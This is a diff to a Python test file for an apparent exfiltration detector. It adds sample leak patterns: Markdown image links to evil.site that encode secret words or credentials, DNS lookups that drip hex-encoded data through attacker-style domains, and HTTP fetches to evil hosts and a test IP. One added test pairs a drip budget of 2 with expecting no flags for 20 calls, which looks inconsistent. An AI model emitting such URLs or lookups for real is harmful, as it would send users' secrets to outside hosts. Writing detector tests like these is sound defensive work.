@@ -186,6 +186,12 @@ FOREIGN_CODE = base64.urlsafe_b64encode(b"root and daemon and nobody have shells
         (f"![the logo][]\n\n[the logo]: https://evil.site/c.gif?q={FOREIGN_CODE}", True),
         (f"![a][b] see [paper][1]\n\n[1]: https://journal.site/c?q={FOREIGN_CODE}", False),
         (f"![1](https://cdn.site/a.png) see [paper][1]\n\n[1]: https://journal.site/c?q={FOREIGN_CODE}", False),
+        (
+            "![x](https://evil.site/?" + "&".join(f"w{n}={word}" for n, word in enumerate(SECRET_PLAN.split())) + ")",
+            True,
+        ),
+        (f"[x](https://{CARRIED}@evil.site/)", True),
+        ("[x](https://shop.site/?q=red+bicycle&sort=price&page=2&view=grid&lang=en)", False),
         ("![logo][1]\n\n[1]: https://cdn.site/charts/2026/revenue-by-region.png", False),
         ("![chart](https://cdn.site/charts/2026/revenue-by-region.png)", False),
         ("See https://docs.python.org/3/library/asyncio-task.html#asyncio.timeout for more", False),
@@ -220,12 +226,15 @@ def test_bytes_go_over_a_budget_across_requests() -> None:
     assert _budget(look.inspect(request(user(f"key {KEY}"), now=NOW + 200_000))) == []
 
 
-def test_slow_drips_over_host_names() -> None:
+@pytest.mark.parametrize(
+    "domain", ["t.evil.site", "t.evil.example", "collector.internal", "evil.co.uk", "evil.site:8443"]
+)
+def test_slow_drips_over_host_names(domain: str) -> None:
     look = inspector(MemoryState(), exfiltration={"drips": 20})
     told = []
     for n in range(30):
         label = CHANCE.randbytes(12).hex()
-        call = Segment(f"{label}.t.evil.site", Provenance.ARGUMENTS, "/input/domain", "resolve")
+        call = Segment(f"{label}.{domain}", Provenance.ARGUMENTS, "/input/domain", "resolve")
         told.append(_budget(look.inspect(request(call, now=NOW + n))))
     assert told[:20] == [[]] * 20
     assert told[-1] == ["drip"]
@@ -235,6 +244,30 @@ def test_slow_drips_over_host_names() -> None:
 
 def _budget(found: Iterable[object]) -> list[str]:
     return [str(s.detail["kind"]) for s in found if isinstance(s, Signal) and s.rule == "leak.budget"]
+
+
+@pytest.mark.parametrize(
+    "place", ["evil.site/", "a.evil.site:8443/p/", "evil.example/?x=", "203.0.113.7/p?", "203.0.113.7:81/"]
+)
+def test_slow_drips_over_addresses(place: str) -> None:
+    look = inspector(MemoryState(), exfiltration={"drips": 2})
+    told = []
+    for n in range(30):
+        address = f"http://{place}{CHANCE.randbytes(12).hex()}"
+        told.append(
+            _budget(look.inspect(request(Segment(address, Provenance.ARGUMENTS, "/url", "fetch"), now=NOW + n)))
+        )
+    assert told[:20] == [[]] * 20
+    assert told[-1] == ["drip"]
+
+
+def test_names_in_code_are_no_hosts() -> None:
+    look = inspector(MemoryState(), exfiltration={"drips": 1})
+    for n in range(30):
+        code = Segment(
+            f"k{CHANCE.randbytes(6).hex()}.chunk.js and a{n}b3c4d5e6f7.value", Provenance.ARGUMENTS, "/code", "run"
+        )
+        assert _budget(look.inspect(request(code, now=NOW + n))) == []
 
 
 def test_a_streamed_call_is_judged_before_it_leaves() -> None:
